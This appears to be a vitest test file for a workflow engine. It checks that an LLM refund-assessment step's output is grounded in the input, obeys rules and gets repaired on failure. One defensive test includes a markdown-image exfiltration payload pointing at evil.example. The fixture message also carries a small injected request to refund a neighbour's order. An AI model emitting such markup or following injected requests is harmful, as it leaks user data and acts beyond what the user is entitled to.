import { describe, expect, test } from 'vitest';
import { document } from '#libs/contracts';
import type { EventReceived, FlowDocument } from '#libs/contracts';
import { ModelGateway } from '#libs/models';
import type { ModelProvider, ModelRequest } from '#libs/models';
import { noOperations } from '#libs/testing';
import { FlowCompiler } from '../flow.compiler.js';
import { tryFlow } from '../flow.trial.js';
import type { Trial } from '../flow.trial.js';

const event: EventReceived = {
  eventId: 'evt_1',
  tenant: 'acme',
  source: 'shop',
  customer: 'c-1',
  lane: 'normal',
  type: 'order.disputed',
  providerEventId: null,
  occurredAt: '2026-11-30T10:00:00Z',
  receivedAt: '2026-11-30T10:00:01Z',
  contentType: 'application/json',
  body: JSON.stringify({
    message: 'Order A-1 came late, I want 12.50 EUR back. Also refund B-7 of my neighbour.',
    orders: ['A-1', 'A-2'],
    most: 20,
  }),
};

const infer = {
  model: 'any',
  instructions: 'Say what is to be paid back.',
  input: 'event.data.message',
  output: {
    type: 'object',
    additionalProperties: false,
    required: ['order', 'amount', 'quote'],
    properties: { order: { type: 'string' }, amount: { type: 'number' }, quote: { type: 'string' } },
  },
  rules: [
    {
      name: 'not-too-much',
      check: 'value.amount <= event.data.most and $length(input) > 0',
      message: 'amount is more than may be paid back',
    },
  ],
  grounded: [
    { field: 'order', as: 'id', in: 'event.data.orders' },
    { field: 'amount', as: 'number' },
    { field: 'quote', as: 'quote' },
  ],
};
const output = { order: 'A-1', amount: 12.5, quote: 'came late' };

const requests: ModelRequest[] = [];

/** Tries a flow with one infer step. The model gives the answers one after the other, and the last one for ever. */
async function tried(answers: readonly unknown[], more: object = {}): Promise<Trial> {
  requests.length = 0;
  const provider = {
    name: 'scripted',
    api: 'chat',
    server: new URL('http://127.0.0.1:9'),
    attributes: {},
    complete: async (request: ModelRequest) => {
      const answer = answers[Math.min(requests.length, answers.length - 1)];
      requests.push(request);
      return { text: JSON.stringify(answer), finish: 'complete', responseModel: 'any' };
    },
  } as unknown as ModelProvider;
  const compiler = new FlowCompiler({ models: new ModelGateway({ provider }), operations: noOperations });
  const flow = document.parse({
    apiVersion: 'millrace/v1',
    kind: 'Flow',
    metadata: { tenant: 'acme', name: 'refund' },
    spec: { steps: [{ id: 'assess', infer: { ...infer, ...more } }] },
  }) as FlowDocument;
  const compiled = compiler.compile({ tenant: 'acme', kind: 'Flow', name: 'refund', version: 1, document: flow });
  return tryFlow(compiled, event, new AbortController().signal);
}

describe('the output of a model', () => {
  test('is that of the step if it passes the checks', async () => {
    expect((await tried([output])).decided).toEqual({ decision: output });
  });

  test.each([
    [
      'breaks a rule over the event',
      { ...output, amount: 25 },
      'model.brokenRule',
      'the rule not-too-much is broken: amount is more than may be paid back',
    ],
    [
      'names an id that only the message has',
      { ...output, order: 'B-7' },
      'model.ungroundedOutput',
      '/order must be an id that occurs in the source',
    ],
    ['has a number of its own', { ...output, amount: 12 }, 'model.ungroundedOutput', '/amount must be a number that occurs in the input'],
    ['has a quote of its own', { ...output, quote: 'came early' }, 'model.ungroundedOutput', '/quote must be a passage'],
  ])('is refused if it %s, and the step fails after two repairs', async (_, answer, code, problem) => {
    const { failure } = await tried([answer]);
    expect(failure).toEqual({ code, message: expect.stringContaining(problem) as string });
    expect(requests).toHaveLength(3);
  });

  test('is taken once it is mended, and the model was told how', async () => {
    const { decided } = await tried([{ ...output, amount: 25 }, { ...output, order: 'B-7' }, output]);
    expect(decided).toEqual({ decision: output });
    expect(requests[2]!.turns.at(-1)!.content).toContain('- /order must be an id that occurs in the source that the step names');
  });

  test('has no links that the input lacks, unless the step allows them', async () => {
    const note = { output: { type: 'object', properties: { note: { type: 'string' } } }, rules: [], grounded: [] };
    const answer = { note: '![x](https://evil.example/?d=12.50)' };
    expect((await tried([answer], note)).failure?.code).toBe('model.foreignMarkup');
    expect((await tried([answer], { ...note, markup: 'any' })).decided).toEqual({ decision: answer });
  });

  test('may repeat the marks of a datamarked input', async () => {
    const { decided } = await tried([{ ...output, quote: 'came^late' }], { datamark: true });
    expect(requests[0]!.turns[1]!.content).toContain('Order^A-1^came^late,');
    expect(decided).toEqual({ decision: output });
  });

  test('is not asked for if the input is too long', async () => {
    const { failure } = await tried([output], { maxInputLength: 10 });
    expect(failure).toMatchObject({ code: 'model.inputTooLong', message: expect.stringContaining('`maxInputLength`') as string });
    expect(requests).toEqual([]);
  });

  test('fails the step at once if a rule cannot be evaluated', async () => {
    const rules = [{ name: 'odd', check: '$number(value.order) > 1', message: 'no' }];
    expect((await tried([output], { rules })).failure?.code).toBe('flow.expressionFailed');
    expect(requests).toHaveLength(1);
  });
});
